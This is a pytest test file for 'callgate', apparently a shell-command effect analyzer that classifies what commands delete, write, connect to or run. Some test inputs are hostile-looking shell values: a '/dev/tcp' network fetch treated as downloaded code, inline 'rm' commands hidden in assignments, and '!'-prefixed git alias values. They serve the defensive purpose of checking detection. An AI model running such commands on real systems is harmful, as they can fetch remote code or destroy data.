"""The format of `kind: programs`: conditions on words, what always holds, values between words."""

from __future__ import annotations

from typing import Any, Final

import pytest

from callgate.effects import Extractor, ProgramError, program_problems
from callgate.effects.program_reader import read_program
from callgate.effects.program_spec import Texts
from tests.effects.reading import HERE, SHELL, shown
from tests.effects.test_program_format import run

POWER = [{"power": {"action": "halt"}, "when": "LEVEL is 0|off|x*|*y*"}]
LEVEL: dict[str, Any] = {"operands": "LEVEL...", "effects": POWER}
MODE: dict[str, Any] = {
    "options": {"mode": ["-m MODE", "--mode=MODE"]},
    "effects": [{"power": {"action": "halt"}, "when": "option mode is 0"}],
}
BOTH: dict[str, Any] = {
    "options": {"a": "-a", "b": "-b"},
    "operands": "WORD...",
    "effects": [{"power": {"action": "halt"}, "when": ["option a and option b", "WORD is on"]}],
}
UNLESS: dict[str, Any] = {
    "operands": "WORD...",
    "effects": [{"power": {"action": "halt"}, "unless": "WORD is status|list"}],
}
IS_NOT: dict[str, Any] = {
    "options": {"from": "-f URL"},
    "effects": [{"power": {"action": "halt"}, "when": "option from is not a|b*"}],
}
ALWAYS: dict[str, Any] = {
    "options": {"log": "-l FILE"},
    "always": [{"write": {"path": "option log"}}],
    "effects": [{"power": {"action": "none"}}],
    "commands": {
        "go": {"effects": [{"power": {"action": "command"}}]},
        "deep": {"commands": {"er": {}}},
    },
}
SKIPS: dict[str, Any] = {
    "style": "single-dash",
    "options": {"second": "--arg name VALUE", "first": "-print FILE format"},
    "operands": "WORD...",
    "effects": [
        {"read": {"path": "option second"}},
        {"write": {"path": "option first"}},
        {"delete": {"path": "WORD"}},
    ],
}
AFTER: dict[str, Any] = {
    "options": {"set": "-c SETTING"},
    "effects": [{"delete": {"path": "option set after alias.*=!"}}],
}
APART: dict[str, Any] = {
    "operands": "WORD...",
    "effects": [{"code": {"language": "shell", "text": "WORD after =", "apart": True}}],
}
PLAIN: dict[str, Any] = {
    "operands": "WORD...",
    "effects": [{"code": {"language": "shell", "text": "WORD", "plain": True}}],
}
HALT = ["power action=halt"]
DOUBTFUL = ["power action=?"]


@pytest.mark.parametrize(
    ("entry", "text", "found"),
    [
        (LEVEL, "x 0", HALT),
        (LEVEL, "x 1 off", HALT),
        (LEVEL, "x xyz", HALT),
        (LEVEL, "x ayb", HALT),
        (LEVEL, "x 00", []),
        (LEVEL, "x OFF", []),
        (LEVEL, "x", []),
        (LEVEL, 'x "$A"', DOUBTFUL),
        (LEVEL, 'x "$A" 0', HALT),
        (MODE, "x -m0", HALT),
        (MODE, "x --mo=0", HALT),
        (MODE, "x -m 1", []),
        (MODE, 'x -m "$A"', DOUBTFUL),
        (BOTH, "x -ab", HALT),
        (BOTH, "x -a", []),
        (BOTH, "x -a on", HALT),
        (UNLESS, "x", HALT),
        (UNLESS, "x list", []),
        (UNLESS, "x stop", HALT),
        (UNLESS, 'x "$A"', DOUBTFUL),
        (ALWAYS, "x -l a", ["power action=none", "write path=/w/a"]),
        (ALWAYS, "x -l a go", ["power action=go", "write path=/w/a"]),
        (ALWAYS, "x go -l a", ["power action=go", "write path=/w/a"]),
        (ALWAYS, "x deep er -l a", ["write path=/w/a"]),
        (SKIPS, "x --arg a b c", ["read path=/w/b", "delete path=/w/c"]),
        (SKIPS, "x -print a %p c", ["write path=/w/a", "delete path=/w/c"]),
        (SKIPS, "x --arg a", []),
        (SKIPS, "x -print a", ["write path=/w/a"]),
        (IS_NOT, "x -f a", []),
        (IS_NOT, "x -f a -f bc", []),
        (IS_NOT, "x -f a -f c", ["power action=halt"]),
        (IS_NOT, "x", []),
        (IS_NOT, "x -f $A", ["power action=?"]),
        (AFTER, "x -c alias.s=!a", ["delete path=/w/a"]),
        (AFTER, "x -c ALIAS.S=!a=!b", ["delete path=/w/a=!b"]),
        (AFTER, "x -c alias.s=a", []),
        (AFTER, "x -c other=!a", []),
        (AFTER, 'x -c "alias.$A"', ["delete path=?"]),
        (AFTER, 'x -c "alias.a=!$A"', ["delete path=?"]),
        (
            APART,
            "x a='rm b' c='rm d'",
            [
                *("interpret language=shell source=inline", "delete path=/w/b"),
                *("interpret language=shell source=inline", "delete path=/w/d"),
            ],
        ),
    ],
)
def test_what_an_entry_means(entry: dict[str, Any], text: str, found: list[str]) -> None:
    assert not list(program_problems({"x": entry}))
    rm = {"operands": "FILE...", "effects": [{"delete": {"path": "FILE"}}]}
    assert run(entry, text, rm=rm) == found


def test_plain_code_is_what_it_does() -> None:
    assert run(PLAIN, "x 'x ls'") == []
    assert "interpret language=shell source=download" in run(PLAIN, 'x "$(</dev/tcp/h/80)"')


@pytest.mark.parametrize(
    ("condition", "said"),
    [
        ("LEVEL is a*b*c", "has a `*` too many"),
        ("LEVEL is **", None),
        ("LEVL is a", "no operand `LEVL`"),
        ("option levl is a", "no option `levl`"),
        ("option level and option levl", "no option `levl`"),
        ("a is b", "is no condition"),
        ("a", "is no condition"),
    ],
)
def test_mistakes_in_conditions(condition: str, said: str | None) -> None:
    entry = {
        "options": {"level": "-l"},
        "operands": "LEVEL",
        "effects": [{"power": {"action": "halt"}, "when": condition}],
    }
    found = [message for _, message, _ in program_problems({"x": entry})]
    assert (found == []) if said is None else (len(found) == 1 and said in found[0])


def test_one_star_stands_for_text_between() -> None:
    entry = {"options": {"o": "-o X"}, "effects": [{"read": {"path": "option o after a*b*c"}}]}
    ((path, message, _),) = program_problems({"x": entry})
    assert path == ("x", "effects", "0", "read", "path")
    assert "more than one `*`" in message


def test_always_belongs_to_every_command() -> None:
    program = read_program("x", ALWAYS)
    assert [len(command.effects) for command in program.commands.values()] == [2, 1]
    assert program.commands["deep"].commands["er"].kinds


IDLE: Final = {
    "options": {"dry": "-n", "wet": "-w"},
    "idle": {"when": "option dry", "unless": "option wet"},
    "always": [{"connect": {"host": "a", "scheme": "x"}}],
    "commands": {
        "go|run": {"operands": "FILE", "effects": [{"delete": {"path": "FILE"}}]},
        "own": {
            "options": {"help": "-h"},
            "idle": {"when": "option help"},
            "operands": "FILE",
            "effects": [{"delete": {"path": "FILE"}}],
        },
    },
}
"""Programs that may be idle."""

CONNECT: Final = "connect scheme=x host=a address_class=public"


@pytest.mark.parametrize(
    ("text", "idle", "found"),
    [
        ("x go f", False, ["delete path=/w/f"]),
        ("x go -n f", True, []),
        ("x -n run f", True, []),
        ("x go -n -w f", False, ["delete path=/w/f"]),
        # It may be `-w`.
        ("x go -n $A f", False, ["delete path=?", "delete path=/w/f"]),
        # A sub-command's own takes the place of the one around it.
        ("x own -n f", False, ["delete path=/w/f"]),
        ("x own -h f", True, []),
        # Standing alone.
        ("x --help", True, []),
        ("x go --help", True, []),
        ("x go --help f", False, ["delete path=/w/f"]),
        ("x go --help --other", False, []),
        ("x go -- --help", False, ["delete path=/w/--help"]),
        ("x go --version", False, []),
    ],
)
def test_idle(text: str, idle: bool, found: list[str]) -> None:
    extractor = Extractor({"x": IDLE, "*": {"idle": ["--help"]}})
    effects = list(extractor.extract(SHELL, {"command": text}, HERE).all)
    runs = [effect for effect in effects if effect.kind == "run"]
    assert [effect.fields["idle"] for effect in runs] == [idle]
    others = [shown(e).replace(" (doubtful)", "") for e in effects if e.kind != "run"]
    assert [item for item in others if item != CONNECT] == found
    assert CONNECT in others


def test_what_only_stands_alone_is_for_programs_with_an_entry() -> None:
    extractor = Extractor({"*": {"idle": ["--help"]}})
    (effect,) = extractor.extract(SHELL, {"command": "x --help"}, HERE).all
    assert effect.fields["idle"] is False


def test_sub_commands_are_read_when_they_are_asked_for() -> None:
    wrong = {"operands": "FILE", "effects": [{"delete": {"path": "FIEL"}}]}
    entry = {"commands": {"go|run": {"operands": "FILE"}, "bad": wrong}}
    program = read_program("x", entry)
    assert program.commands["go"] is program.commands["run"]
    assert list(program.commands) == ["go", "run", "bad"]
    assert program.kinds == {"delete"}
    with pytest.raises(ProgramError, match="no operand `FIEL`"):
        program.commands["bad"]
    ((path, _, _),) = program_problems({"x": entry})
    assert path == ("x", "commands", "bad", "effects", "0", "delete", "path")


@pytest.mark.parametrize(
    ("text", "fits"), [("a", True), ("xa", False), ("bc", True), ("b1c", True), ("b", False)]
)
def test_texts(text: str, fits: bool) -> None:
    assert Texts(frozenset({"a"}), (("b", "c"),)).fit(text) is fits
